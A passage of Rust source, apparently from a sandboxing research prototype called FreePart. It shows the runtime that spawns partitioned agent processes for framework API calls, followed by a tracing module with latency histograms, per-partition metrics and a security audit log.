            CallError::AgentCrashed(p) => write!(f, "agent {p} crashed"),
            CallError::StateLost(id) => write!(f, "object {id} lost in a crash"),
            CallError::TenantDenied { tenant, object } => {
                write!(f, "tenant{tenant} denied access to foreign object {object}")
            }
            CallError::Framework(e) => e.fmt(f),
        }
    }
}

impl std::error::Error for CallError {}

/// Handle to an asynchronous hooked call ([`Runtime::call_async`]).
/// Redeem it with [`Runtime::wait`] (retires the call, consuming its
/// response) or peek with [`Runtime::promise`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct CallHandle(u64);

impl CallHandle {
    /// The sequence number of the underlying request.
    pub fn seq(self) -> u64 {
        self.0
    }
}

/// Aggregated runtime statistics for the evaluation tables.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct RuntimeStats {
    /// Completed hooked API calls.
    pub rpc_calls: u64,
    /// Direct agent→agent payload moves (lazy copies).
    pub ldc_copies: u64,
    /// Through-host payload moves (eager / host-dereference copies).
    pub host_copies: u64,
    /// Agent restarts performed.
    pub restarts: u64,
    /// Framework-state transitions taken.
    pub transitions: u64,
    /// Objects currently under read-only protection.
    pub protected_objects: u64,
    /// Shared-memory grants issued (segment views created).
    pub shm_grants: u64,
    /// Shared-memory grants revoked by the temporal sweep at framework
    /// state transitions.
    pub shm_revokes: u64,
    /// Cumulative bytes delivered by page-mapping a segment instead of
    /// copying (the zero-copy counterpart of the copy counters).
    pub shm_mapped_bytes: u64,
    /// Pooled mode: cross-tenant object accesses denied (and audited)
    /// at the shared agents' capability gates.
    pub tenant_denials: u64,
}

/// The installed FreePart runtime for one application.
pub struct Runtime {
    /// The simulated OS everything runs on.
    pub kernel: Kernel,
    /// Live framework objects.
    pub objects: ObjectStore,
    reg: ApiRegistry,
    report: HybridReport,
    profile: SyscallProfile,
    policy: Policy,
    host: Pid,
    routes: RoutingTable,
    agents: BTreeMap<PartitionId, Agent>,
    states: BTreeMap<ThreadId, StateMachine>,
    /// Next thread id to hand out — an O(1) counter, not a max-scan
    /// over `states` (which was linear in the number of threads/tenants
    /// on every spawn).
    next_thread: u32,
    seq: u64,
    /// One-shot fault injection: kill this partition's agent after its
    /// next successful execution but before the response is delivered.
    crash_before_response: Option<PartitionId>,
    /// Exploit actions observed inside agents (drained by the harness).
    pub exploit_log: Vec<ActionReport>,
    call_log: Vec<ApiId>,
    stats: RuntimeStats,
    tracer: Tracer,
    snapshots: BTreeMap<PartitionId, Vec<SnapshotEntry>>,
    /// Objects pinned to a dedicated data process (code-based API+data
    /// baseline): shipped to users per call and returned afterwards.
    pinned: BTreeMap<ObjectId, Pid>,
    /// Submitted-but-unretired calls by sequence number.
    inflight: BTreeMap<u64, InFlight>,
    /// FIFO retirement order per partition (ring responses are ordered).
    inflight_by_partition: BTreeMap<PartitionId, VecDeque<u64>>,
    /// Retired outcomes kept for late `wait`/`promise`/dep lookups:
    /// `(outcome, completion ns)`.
    retired: BTreeMap<u64, (Result<Value, CallError>, u64)>,
    /// Object hazards: when the last call touching each object completed
    /// (agent timeline). A later consumer merges its agent's timeline to
    /// this instant — it waits for *that producer only*.
    last_touch: BTreeMap<ObjectId, u64>,
    /// True once per-process virtual timelines drive the kernel clock.
    pipelining: bool,
    /// Max in-flight calls per partition before submission force-retires
    /// the oldest.
    pipeline_window: usize,
    /// The open call batch, if `Policy::batch_window` is set: consecutive
    /// same-partition calls whose request/response frames are coalesced
    /// into one IPC frame each at flush time.
    batch: Option<PendingBatch>,
    /// Flushed-batch trace bookkeeping, keyed by each batch's *last*
    /// member seq: `(first member's hook-entry ns, member count)`. The
    /// enclosing `batch` span is emitted when that member retires.
    batch_spans: BTreeMap<u64, (u64, usize)>,
    /// Pre-forked spare agents per partition (`Policy::warm_spares`).
    spares: BTreeMap<PartitionId, VecDeque<Spare>>,
    /// Per-partition restart-budget state (`Policy::restart_budget`).
    governors: BTreeMap<PartitionId, RestartGovernor>,
    /// One-shot fault injection: force the next snapshot restore for
    /// this partition to fail (exercises the quarantine path).
    fail_next_restore: Option<PartitionId>,
    /// The closed-loop adaptive policy controller
    /// (`Policy::adaptive`): per-partition knob decisions at
    /// state-transition drain barriers. `None` = static policy only.
    controller: Option<controller::Controller>,
    /// Defining thread per object — lets re-protection and the
    /// capability gate resolve an object's owner in O(log n) instead of
    /// scanning every thread's state machine. First definer wins
    /// (objects never change hands across tenants).
    owner_of: BTreeMap<ObjectId, ThreadId>,
    /// Objects defined in *every* thread's machine (annotated host
    /// data): exempt from the per-tenant capability gate and still
    /// swept via the all-threads path.
    shared_objs: BTreeSet<ObjectId>,
    /// Every object whose payload has been promoted to a shared-memory
    /// segment — the temporal-grant sweeps walk this index instead of
    /// the whole object store (which made every state transition linear
    /// in global object count).
    shm_index: BTreeSet<ObjectId>,
    /// The shm index partitioned by owning thread, for the pooled
    /// per-tenant sweep (a tenant's transition revokes only grants on
    /// its own + shared segments: O(1) in the number of tenants).
    shm_owned: BTreeMap<ThreadId, BTreeSet<ObjectId>>,
    /// Pooled mode (`Policy::pooled`): the deficit-round-robin run
    /// queues over tenants, one per pool partition. `None` = per-thread
    /// agent sets (the seed model).
    pool_sched: Option<DrrScheduler>,
    /// Pooled tickets by handle id (queued and completed).
    tickets: BTreeMap<u64, Ticket>,
    next_ticket: u64,
    /// Round-robin cursor over pools for `pump_one`.
    pool_cursor: usize,
    /// Each tenant's own pipeline process (its host-side context).
    tenant_pids: BTreeMap<u32, Pid>,
    /// Per-tenant call latencies (enqueue → retire, global clock), for
    /// the p50/p99 curves and the starvation-freedom bound.
    tenant_lat: BTreeMap<u32, Vec<u64>>,
}

impl fmt::Debug for Runtime {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Runtime")
            .field("host", &self.host)
            .field("agents", &self.agents.len())
            .field("state", &self.state_of(ThreadId::MAIN))
            .finish()
    }
}

impl Runtime {
    /// Installs FreePart: runs the hybrid analysis on the full corpus,
    /// spawns host + agents, and wires the IPC channels.
    pub fn install(reg: ApiRegistry, policy: Policy) -> Runtime {
        let corpus = TestCorpus::full(&reg);
        let report = freepart_analysis::categorize(&reg, &corpus);
        let profile = SyscallProfile::build(&reg, &corpus);
        Runtime::install_with(reg, report, profile, policy)
    }

    /// Installs FreePart with precomputed analysis results.
    pub fn install_with(
        reg: ApiRegistry,
        report: HybridReport,
        profile: SyscallProfile,
        policy: Policy,
    ) -> Runtime {
        let mut kernel = Kernel::new();
        // The flight recorder must attach before the first mutation (the
        // commit log's genesis digest is the pristine kernel).
        if policy.record_commits {
            kernel.enable_commit_log();
        }
        let host = kernel.spawn("host");
        let temporal = policy.temporal_protection;
        let mut states = BTreeMap::new();
        states.insert(ThreadId::MAIN, StateMachine::new(temporal));
        // Route every catalog API to its partition once; install-time
        // agent creation, spawn_thread, and the call hot path all read
        // this table instead of recomputing the grouping.
        let routes = RoutingTable::build(&reg, &report, &policy);
        // The adaptive controller reads its estimates from the metrics
        // registry, so it force-enables tracing. Tracing only reads the
        // virtual clock (never charges time), so this changes no
        // deterministic result — the observability report asserts it.
        let controller = policy.adaptive.map(controller::Controller::new);
        let pool_sched = policy.pooled.map(|cfg| DrrScheduler::new(cfg.quantum));
        let mut tracer = Tracer::new();
        if controller.is_some() {
            tracer.enable();
        }
        let mut rt = Runtime {
            kernel,
            objects: ObjectStore::new(),
            reg,
            report,
            profile,
            policy,
            host,
            routes,
            agents: BTreeMap::new(),
            states,
            next_thread: 1,
            seq: 0,
            crash_before_response: None,
            exploit_log: Vec::new(),
            call_log: Vec::new(),
            stats: RuntimeStats::default(),
            tracer,
            snapshots: BTreeMap::new(),
            pinned: BTreeMap::new(),
            inflight: BTreeMap::new(),
            inflight_by_partition: BTreeMap::new(),
            retired: BTreeMap::new(),
            last_touch: BTreeMap::new(),
            pipelining: false,
            pipeline_window: DEFAULT_PIPELINE_WINDOW,
            batch: None,
            batch_spans: BTreeMap::new(),
            spares: BTreeMap::new(),
            governors: BTreeMap::new(),
            fail_next_restore: None,
            controller,
            owner_of: BTreeMap::new(),
            shared_objs: BTreeSet::new(),
            shm_index: BTreeSet::new(),
            shm_owned: BTreeMap::new(),
            pool_sched,
            tickets: BTreeMap::new(),
            next_ticket: 0,
            pool_cursor: 0,
            tenant_pids: BTreeMap::new(),
            tenant_lat: BTreeMap::new(),
        };
        rt.spawn_agent_set(ThreadId::MAIN);
        rt
    }

    /// Spawns one agent per routed partition for `thread`, each with the
    /// routing table's API set for that partition.
    fn spawn_agent_set(&mut self, thread: ThreadId) {
        let partitions: Vec<PartitionId> = self.routes.partitions.iter().copied().collect();
        for p in partitions {
            let apis = self.routes.groups.get(&p).cloned().unwrap_or_default();
            self.spawn_agent(thread_partition(thread, p), apis);
        }
    }

    fn spawn_agent(&mut self, partition: PartitionId, apis: BTreeSet<ApiId>) {
        let pid = self.kernel.spawn(&format!("agent:{partition}"));
        let code_page = self
            .kernel
            .alloc(pid, freepart_simos::PAGE_SIZE, Perms::RX)
            .expect("fresh agent allocates");
        let chan = self
            .kernel
            .create_channel(self.host, pid, 1 << 22)
            .expect("host and agent are alive");
        self.agents.insert(
            partition,
            Agent {
                partition,
                pid,
                chan,
                code_page,
                apis,
                sealed: false,
                calls: 0,
                cache: CompletionCache::new(64),
                caps: BTreeMap::new(),
            },
        );
        for _ in 0..self.policy.warm_spares {
            self.prefork_spare(partition);
        }
    }

    /// Pre-forks one spare agent process for `partition`: pid + RX code
    /// page only. Everything else (channel, journal, shm views) is
    /// adopted from the crashed sibling at restart time.
    fn prefork_spare(&mut self, partition: PartitionId) {
        let pid = self.kernel.spawn(&format!("agent:{partition}~"));
        let code_page = self
            .kernel
            .alloc(pid, freepart_simos::PAGE_SIZE, Perms::RX)
            .expect("fresh spare allocates");
        self.spares
            .entry(partition)
            .or_default()
            .push_back(Spare { pid, code_page });
    }

    /// Tops every partition's spare pool back up to
    /// `Policy::warm_spares`. Restarts deliberately do *not* auto-refill
    /// (the spawn cost would land inside the restart they are meant to
    /// make cheap); call this off the critical path.
    pub fn refill_spares(&mut self) {
        let target = self.policy.warm_spares as usize;
        let partitions: Vec<PartitionId> = self.agents.keys().copied().collect();
        for p in partitions {
            while self.spares.get(&p).map_or(0, VecDeque::len) < target {
                self.prefork_spare(p);
            }
        }
    }

    /// Spare agents currently pooled for `partition`.
    pub fn spare_count(&self, partition: PartitionId) -> usize {
        self.spares.get(&partition).map_or(0, VecDeque::len)
    }

    /// True when the supervisor degraded `partition` to fail-fast
    /// (restart budget exhausted, or an unsealable respawn).
    pub fn is_degraded(&self, partition: PartitionId) -> bool {
        self.governors.get(&partition).is_some_and(|g| g.degraded)
    }

    /// Partitions the supervisor has degraded, in id order.
    pub fn degraded_partitions(&self) -> Vec<PartitionId> {
        self.governors
            .iter()
            .filter(|(_, g)| g.degraded)
            .map(|(p, _)| *p)
            .collect()
    }

    // ------------------------------------------------------------------
    // Accessors
    // ------------------------------------------------------------------

    /// The API registry in force.
    pub fn registry(&self) -> &ApiRegistry {
        &self.reg
    }

    /// The hybrid categorization in force.
    pub fn report(&self) -> &HybridReport {
        &self.report
    }

    /// The host process id.
    pub fn host_pid(&self) -> Pid {
        self.host
    }

    /// The current framework state of the main thread.
    pub fn current_state(&self) -> FrameworkState {
        self.state_of(ThreadId::MAIN)
    }

    /// The main thread's Fig. 3 state timeline:
    /// `(virtual ns, state entered, objects newly locked)`.
    pub fn state_timeline(&self) -> Vec<(u64, FrameworkState, usize)> {
        self.states
            .get(&ThreadId::MAIN)
            .map(|s| s.timeline().to_vec())
            .unwrap_or_default()
    }

    /// The current framework state of one thread.
    pub fn state_of(&self, thread: ThreadId) -> FrameworkState {
        self.states
            .get(&thread)
            .map_or(FrameworkState::Initialization, StateMachine::current)
    }

    /// Spawns a fresh set of agent processes (one per partition) for a
    /// new application thread, with its own framework-state machine —
    /// the paper's multi-threading model (§6). Returns the thread id to
    /// pass to [`Runtime::call_on`].
    pub fn spawn_thread(&mut self) -> ThreadId {
        let thread = ThreadId(self.next_thread);
        self.next_thread += 1;
        self.states
            .insert(thread, StateMachine::new(self.policy.temporal_protection));
        self.spawn_agent_set(thread);
        thread
    }

    /// The agent serving a partition, if any.
    pub fn agent(&self, partition: PartitionId) -> Option<&Agent> {
        self.agents.get(&partition)
    }

    /// All partitions with live agent records.
    pub fn partitions(&self) -> Vec<PartitionId> {
        self.agents.keys().copied().collect()
    }

    /// The partition an API is routed to in the *canonical* (non-neutral)
    /// case — a routing-table lookup, not a plan recomputation.
    pub fn partition_of(&self, api: ApiId) -> PartitionId {
        self.routes
            .by_api
            .get(&api)
            .copied()
            .unwrap_or_else(|| self.policy.plan.partition_of(api, self.report.type_of(api)))
    }

    /// Runtime statistics. Transition counts sum over threads;
    /// `protected_objects` is a true gauge — the number of *distinct*
    /// objects currently locked, however many threads track them. The
    /// shared-memory counters mirror the kernel's (the runtime is the
    /// only grant issuer).
    pub fn stats(&self) -> RuntimeStats {
        let mut distinct: BTreeSet<ObjectId> = BTreeSet::new();
        for s in self.states.values() {
            distinct.extend(s.protected().iter().copied());
        }
        let m = self.kernel.metrics();
        RuntimeStats {
            transitions: self.states.values().map(|s| s.transitions).sum(),
            protected_objects: distinct.len() as u64,
            shm_grants: m.shm_grants,
            shm_revokes: m.shm_revokes,
            shm_mapped_bytes: m.shm_mapped_bytes,
            ..self.stats
        }
    }

    /// Sequence of API calls completed so far.
    pub fn call_log(&self) -> &[ApiId] {
        &self.call_log
    }

    /// Whether any thread's state machine protects a given object.
    pub fn is_protected(&self, id: ObjectId) -> bool {
        self.states.values().any(|s| s.is_protected(id))
    }

    // ------------------------------------------------------------------
    // Observability
    // ------------------------------------------------------------------

    /// Turns span tracing, the per-partition metrics registry, and the
    /// security audit log on. Tracing only *reads* the virtual clock —
    /// it never charges time — so enabling it cannot change any
    /// deterministic benchmark result.
    pub fn enable_tracing(&mut self) {
        self.tracer.enable();
    }

    /// Whether tracing is recording.
    pub fn tracing_enabled(&self) -> bool {
        self.tracer.enabled()
    }

    /// The tracer: spans, marks, audit log, and the per-partition /
    /// per-API metrics registry.
    pub fn tracer(&self) -> &Tracer {
        &self.tracer
    }

    /// Records a driver-level instant mark (pipeline milestones such as
    /// "sample 3" or "frame 7") at the current virtual time.
    pub fn trace_mark(&mut self, label: &str) {
        self.trace_mark_on(ThreadId::MAIN, label);
    }

    /// Records an instant mark attributed to a specific application
    /// thread (pipelined drivers mark per-stage milestones).
    pub fn trace_mark_on(&mut self, thread: ThreadId, label: &str) {
        if self.tracer.enabled() {
            let now = self.kernel.now_ns();
            self.tracer.mark(now, thread, label);
        }
    }

    /// Exports the recorded trace as a complete Chrome `trace_event`
    /// JSON object (`{"traceEvents": [...]}`) loadable in
    /// `about:tracing` or Perfetto. Every live partition appears as its
    /// own process row, named by the API types its agent serves; host
    /// activity is process 0.
    pub fn export_chrome_trace(&self) -> String {
        format!(
            "{{\"displayTimeUnit\":\"ms\",\"traceEvents\":{}}}",
            self.tracer
                .chrome_trace_events(&self.reg, &self.partition_labels())
        )
    }

    /// Display labels for every live partition: the partition id plus
    /// the API types its agent serves.
    pub fn partition_labels(&self) -> Vec<(PartitionId, String)> {
        self.agents
            .iter()
            .map(|(p, agent)| {
                let mut types: BTreeSet<String> = agent
                    .apis
                    .iter()
                    .map(|a| self.reg.spec(*a).declared_type.to_string())
                    .collect();
                if types.is_empty() {
                    types.insert("idle".to_owned());
                }
                let label = format!("{p} ({})", types.into_iter().collect::<Vec<_>>().join("+"));
                (*p, label)
            })
            .collect()
    }
}
