//! End-to-end tracing and per-partition telemetry for the hooked-call
//! pipeline.
//!
//! The evaluation (Fig. 13, Tables 9/12) and the security story both
//! hinge on knowing *where* time and bytes go: host→agent marshalling,
//! LDC deferred copies, `mprotect` storms on state transitions. This
//! module provides a **zero-cost-when-disabled** observability layer:
//!
//! * **Spans** ([`SpanEvent`]) for every stage of a hooked call's
//!   lifecycle — hook entry → state transition → marshal → execute →
//!   journal → response — plus LDC resolution, re-protection, replay and
//!   restart paths, all timestamped by the `simos` virtual clock.
//! * **A per-partition / per-API metrics registry** ([`ApiStats`]):
//!   call counts, virtual-ns latency histograms with fixed log2 buckets,
//!   bytes moved lazily vs eagerly, journal hits, faults, filter kills.
//! * **A security audit log** ([`AuditRecord`]): every framework-state
//!   transition with the page-protection delta it applied, and every
//!   denied access with the object, state, and partition involved.
//! * **A Chrome `trace_event` exporter** loadable in `about:tracing`
//!   or [Perfetto](https://ui.perfetto.dev).
//!
//! Tracing never charges virtual time — it only *reads* the clock — so
//! enabling it cannot perturb the deterministic benchmark numbers, and
//! when disabled every instrumentation site is a single branch.

use crate::partition::PartitionId;
use crate::runtime::ThreadId;
use crate::state::FrameworkState;
use freepart_frameworks::api::{ApiId, ApiRegistry};
use freepart_frameworks::ObjectId;
use freepart_simos::{Pid, ShmId};
use std::collections::BTreeMap;
use std::fmt;

// ----------------------------------------------------------------------
// Span events
// ----------------------------------------------------------------------

/// One stage of the hooked-call lifecycle (or an out-of-call runtime
/// activity) covered by a span.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum SpanPhase {
    /// The whole hooked call, hook entry to return (parent span).
    Call,
    /// Framework-state transition, including its `mprotect` sweep.
    Transition,
    /// Request marshal: frame encode, host→agent send, agent dispatch.
    Marshal,
    /// Data-plane payload movement into the executing agent (LDC
    /// deferred-copy resolution or eager through-host hops).
    DataCopy,
    /// Temporal protection re-applied after a payload migration.
    Reprotect,
    /// API body executing in the agent's process context.
    Execute,
    /// Completion journalled agent-side (exactly-once bookkeeping).
    Journal,
    /// Response frame agent→host and host-side unmarshal.
    Response,
    /// Duplicate delivery answered from the completion journal.
    Replay,
    /// Agent respawn after a crash.
    Restart,
    /// Host dereference of a remote payload (`fetch_bytes`).
    HostFetch,
    /// Shared-memory delivery: segment grant + page-table map (no
    /// payload bytes copied).
    ShmMap,
    /// A batched IPC frame: one span enclosing its member `call` spans,
    /// first member's hook entry to the batch's retirement. `bytes`
    /// carries the member-call count, not a byte size.
    Batch,
}

/// Aggregation bucket a leaf span contributes to — the four components
/// the overhead decomposition reports.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Bucket {
    /// RPC framing: marshal, response, replay, journal bookkeeping.
    Marshal,
    /// Payload bytes crossing address spaces.
    Copy,
    /// Page-protection changes (transitions + re-protection).
    Mprotect,
    /// The API body's own work inside the agent.
    Compute,
    /// Everything else attributable but not a component (restarts).
    Other,
}

impl SpanPhase {
    /// Stable lowercase name (Chrome trace event name).
    pub fn name(self) -> &'static str {
        match self {
            SpanPhase::Call => "call",
            SpanPhase::Transition => "transition",
            SpanPhase::Marshal => "marshal",
            SpanPhase::DataCopy => "data_copy",
            SpanPhase::Reprotect => "reprotect",
            SpanPhase::Execute => "execute",
            SpanPhase::Journal => "journal",
            SpanPhase::Response => "response",
            SpanPhase::Replay => "replay",
            SpanPhase::Restart => "restart",
            SpanPhase::HostFetch => "host_fetch",
            SpanPhase::ShmMap => "shm_map",
            SpanPhase::Batch => "batch",
        }
    }

    /// The aggregation bucket, or `None` for parent spans ([`Call`][
    /// SpanPhase::Call] nests the leaves; counting it would double-book).
    pub fn bucket(self) -> Option<Bucket> {
        match self {
            SpanPhase::Call | SpanPhase::Batch => None,
            SpanPhase::Marshal | SpanPhase::Journal | SpanPhase::Response | SpanPhase::Replay => {
                Some(Bucket::Marshal)
            }
            SpanPhase::DataCopy | SpanPhase::HostFetch => Some(Bucket::Copy),
            SpanPhase::Transition | SpanPhase::Reprotect | SpanPhase::ShmMap => {
                Some(Bucket::Mprotect)
            }
            SpanPhase::Execute => Some(Bucket::Compute),
            SpanPhase::Restart => Some(Bucket::Other),
        }
    }
}

impl fmt::Display for SpanPhase {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// Why an open call batch was flushed into an IPC frame.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum FlushReason {
    /// The next call routed to a different partition.
    PartitionSwitch,
    /// The host dereferenced a pending result (`wait`) or an object an
    /// in-flight member produced/touched.
    Hazard,
    /// A framework-state transition's drain barrier.
    Transition,
    /// The batch reached `Policy::batch_window` members.
    WindowFull,
}

impl FlushReason {
    /// Stable lowercase-kebab name (Chrome instant / report key).
    pub fn name(self) -> &'static str {
        match self {
            FlushReason::PartitionSwitch => "partition-switch",
            FlushReason::Hazard => "hazard",
            FlushReason::Transition => "transition",
            FlushReason::WindowFull => "window-full",
        }
    }
}

impl fmt::Display for FlushReason {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// One structured span: a lifecycle stage with virtual-clock bounds,
/// keyed by sequence number, API, partition, and thread.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SpanEvent {
    /// Lifecycle stage.
    pub phase: SpanPhase,
    /// Logical-call sequence number (0 for out-of-call activity).
    pub seq: u64,
    /// The API being called, when in a call context.
    pub api: Option<ApiId>,
    /// The partition involved (agent-side stages).
    pub partition: Option<PartitionId>,
    /// The application thread driving the call.
    pub thread: ThreadId,
    /// Virtual-clock timestamp at span start (ns).
    pub start_ns: u64,
    /// Virtual-clock timestamp at span end (ns).
    pub end_ns: u64,
    /// Payload bytes involved (frames for marshal/response, object
    /// payloads for copies; 0 otherwise).
    pub bytes: u64,
}

impl SpanEvent {
    /// Span duration in virtual nanoseconds.
    pub fn duration_ns(&self) -> u64 {
        self.end_ns.saturating_sub(self.start_ns)
    }
}

// ----------------------------------------------------------------------
// Histogram
// ----------------------------------------------------------------------

/// Number of log2 buckets: bucket 0 holds zeros, bucket `i` holds
/// values in `[2^(i-1), 2^i)`, the last bucket is open-ended. 40
/// buckets cover up to ~9 virtual minutes at nanosecond resolution.
pub const HIST_BUCKETS: usize = 40;

/// Fixed-size log2-bucketed histogram of virtual-ns durations.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Log2Histogram {
    buckets: [u64; HIST_BUCKETS],
    count: u64,
    sum: u64,
    min: u64,
    max: u64,
}

impl Default for Log2Histogram {
    fn default() -> Self {
        Log2Histogram {
            buckets: [0; HIST_BUCKETS],
            count: 0,
            sum: 0,
            min: 0,
            max: 0,
        }
    }
}

impl Log2Histogram {
    /// An empty histogram.
    pub fn new() -> Log2Histogram {
        Log2Histogram::default()
    }

    /// Bucket index for a value: 0 for zero, otherwise
    /// `floor(log2(v)) + 1`, capped at the last bucket.
    pub fn bucket_of(v: u64) -> usize {
        if v == 0 {
            0
        } else {
            (64 - v.leading_zeros() as usize).min(HIST_BUCKETS - 1)
        }
    }

    /// Records one observation.
    pub fn record(&mut self, v: u64) {
        self.buckets[Self::bucket_of(v)] += 1;
        self.min = if self.count == 0 { v } else { self.min.min(v) };
        self.count += 1;
        self.sum += v;
        self.max = self.max.max(v);
    }

    /// Observations recorded.
    pub fn count(&self) -> u64 {
        self.count
    }

    /// Sum of all observations.
    pub fn sum(&self) -> u64 {
        self.sum
    }

    /// Smallest observation (0 when empty).
    pub fn min(&self) -> u64 {
        self.min
    }

    /// Largest observation.
    pub fn max(&self) -> u64 {
        self.max
    }

    /// Mean observation (0 when empty).
    pub fn mean(&self) -> f64 {
        if self.count == 0 {
            0.0
        } else {
            self.sum as f64 / self.count as f64
        }
    }

    /// The raw bucket counts.
    pub fn buckets(&self) -> &[u64; HIST_BUCKETS] {
        &self.buckets
    }

    /// Upper bound (exclusive) of bucket `i` — `u64::MAX` for the last.
    pub fn bucket_bound(i: usize) -> u64 {
        if i >= HIST_BUCKETS - 1 {
            u64::MAX
        } else {
            1u64 << i
        }
    }

    /// Approximate quantile (`q` in `[0, 1]`): the upper bound of the
    /// bucket containing the `q`-th observation, clamped into
    /// `[min, max]`. Edge cases are explicit, not loop fall-through:
    /// an empty histogram returns 0, `q <= 0` returns the smallest
    /// observation, `q >= 1` (and NaN) returns the largest.
    pub fn quantile(&self, q: f64) -> u64 {
        if self.count == 0 {
            return 0;
        }
        if q <= 0.0 {
            return self.min;
        }
        if q.is_nan() || q >= 1.0 {
            return self.max;
        }
        let target = (q * self.count as f64).ceil().max(1.0) as u64;
        let mut seen = 0;
        for (i, c) in self.buckets.iter().enumerate() {
            seen += c;
            if seen >= target {
                return Self::bucket_bound(i).clamp(self.min, self.max);
            }
        }
        self.max
    }

    /// Merges another histogram into this one.
    pub fn merge(&mut self, other: &Log2Histogram) {
        for (a, b) in self.buckets.iter_mut().zip(other.buckets.iter()) {
            *a += b;
        }
        self.min = match (self.count, other.count) {
            (_, 0) => self.min,
            (0, _) => other.min,
            _ => self.min.min(other.min),
        };
        self.count += other.count;
        self.sum += other.sum;
        self.max = self.max.max(other.max);
    }
}

// ----------------------------------------------------------------------
// Per-partition / per-API metrics registry
// ----------------------------------------------------------------------

/// Telemetry for one `(partition, API)` pair.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ApiStats {
    /// Completed hooked calls.
    pub calls: u64,
    /// Per-call virtual-ns latency histogram.
    pub latency: Log2Histogram,
    /// Payload bytes moved by direct agent→agent LDC copies.
    pub bytes_lazy: u64,
    /// Payload bytes moved eagerly through the host.
    pub bytes_eager: u64,
    /// Payload bytes delivered zero-copy over shm segments (no byte is
    /// moved — this is the mapped length, so payload-size estimators
    /// keep seeing an object's traffic after shm promotion).
    pub bytes_shm: u64,
    /// Duplicate deliveries answered from the completion journal.
    pub journal_hits: u64,
    /// Calls that ended in an agent crash (memory fault / abort).
    pub faults: u64,
    /// Calls that ended with the syscall filter killing the agent.
    pub filter_kills: u64,
}

impl ApiStats {
    /// Merges another stats cell into this one (partition rollups).
    pub fn merge(&mut self, other: &ApiStats) {
        self.calls += other.calls;
        self.latency.merge(&other.latency);
        self.bytes_lazy += other.bytes_lazy;
        self.bytes_eager += other.bytes_eager;
        self.bytes_shm += other.bytes_shm;
        self.journal_hits += other.journal_hits;
        self.faults += other.faults;
        self.filter_kills += other.filter_kills;
    }
}

/// Totals of leaf-span durations per aggregation bucket — the
/// marshal / copy / mprotect / compute decomposition.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct BucketTotals {
    /// RPC framing and journal bookkeeping (virtual ns).
    pub marshal_ns: u64,
    /// Payload movement across address spaces (virtual ns).
    pub copy_ns: u64,
    /// Page-protection changes (virtual ns).
    pub mprotect_ns: u64,
    /// API bodies executing in agents (virtual ns).
    pub compute_ns: u64,
    /// Other attributable activity, e.g. restarts (virtual ns).
    pub other_ns: u64,
}

impl BucketTotals {
    /// Sum of every traced leaf span.
    pub fn traced_ns(&self) -> u64 {
        self.marshal_ns + self.copy_ns + self.mprotect_ns + self.compute_ns + self.other_ns
    }
}

// ----------------------------------------------------------------------
// Security audit log
// ----------------------------------------------------------------------

/// One security-relevant runtime event, with enough context to explain
/// *why* it happened — the per-boundary visibility aggregate counters
/// cannot give.
#[derive(Debug, Clone, PartialEq)]
pub enum AuditRecord {
    /// A framework-state transition and the page-protection delta it
    /// applied (locks on the state being left, unlocks on re-entry).
    StateTransition {
        /// Virtual time of the transition.
        at_ns: u64,
        /// The thread whose state machine moved.
        thread: ThreadId,
        /// The logical call that triggered it.
        seq: u64,
        /// State left.
        from: FrameworkState,
        /// State entered.
        to: FrameworkState,
        /// Objects newly locked read-only.
        objects_locked: usize,
        /// Objects unlocked on state re-entry.
        objects_unlocked: usize,
        /// `mprotect` page transitions applied (the `protected_pages`
        /// kernel-counter delta across this transition).
        pages: u64,
    },
    /// Temporal protection re-applied to a migrated object.
    Reprotect {
        /// Virtual time.
        at_ns: u64,
        /// The object re-locked.
        object: ObjectId,
        /// `mprotect` page transitions applied.
        pages: u64,
    },
    /// A memory access denied by page permissions (or an abort) killed
    /// an agent mid-call.
    AccessDenied {
        /// Virtual time.
        at_ns: u64,
        /// The partition whose agent died.
        partition: PartitionId,
        /// The API executing when the access fired.
        api: ApiId,
        /// The framework state at the time.
        state: FrameworkState,
        /// The protected object hit, when the address resolves to one.
        object: Option<ObjectId>,
        /// The faulting address, when memory-related.
        addr: Option<u64>,
        /// Fault classification (`Protection`, `Unmapped`, `Abort`).
        fault: String,
    },
    /// A shared-memory grant was issued: `pid` gained a page-mapped view
    /// of an object's segment (zero-copy delivery or segment creation).
    ShmGrant {
        /// Virtual time.
        at_ns: u64,
        /// The object whose payload the segment holds.
        object: ObjectId,
        /// The segment granted.
        segment: ShmId,
        /// The process receiving the view.
        pid: Pid,
        /// Segment length in bytes (what the grant exposes).
        bytes: u64,
    },
    /// A shared-memory grant was torn down by the temporal-permission
    /// sweep at a framework-state transition (or on object teardown):
    /// `pid` can no longer touch the segment; a stale access now faults.
    ShmRevoke {
        /// Virtual time.
        at_ns: u64,
        /// The object whose payload the segment holds.
        object: ObjectId,
        /// The segment revoked.
        segment: ShmId,
        /// The process losing its view.
        pid: Pid,
        /// The logical call whose state transition triggered the sweep.
        seq: u64,
    },
    /// The seccomp-style filter killed an agent.
    FilterKill {
        /// Virtual time.
        at_ns: u64,
        /// The partition whose agent died.
        partition: PartitionId,
        /// The API executing when the syscall fired.
        api: ApiId,
        /// The framework state at the time.
        state: FrameworkState,
        /// The denied syscall.
        syscall: String,
    },
    /// The supervisor's restart budget ran dry: the partition was
    /// degraded to fail-fast errors instead of respawned — the audited
    /// detection of a DoS-by-restart loop.
    RestartDenied {
        /// Virtual time.
        at_ns: u64,
        /// The partition degraded.
        partition: PartitionId,
        /// Restarts this partition had consumed before denial.
        restarts: u64,
        /// The token-bucket burst size that was exhausted.
        burst: u32,
    },
    /// `install_filter` failed while sealing a respawned agent. The
    /// partition is degraded rather than left running unsandboxed.
    SealFailed {
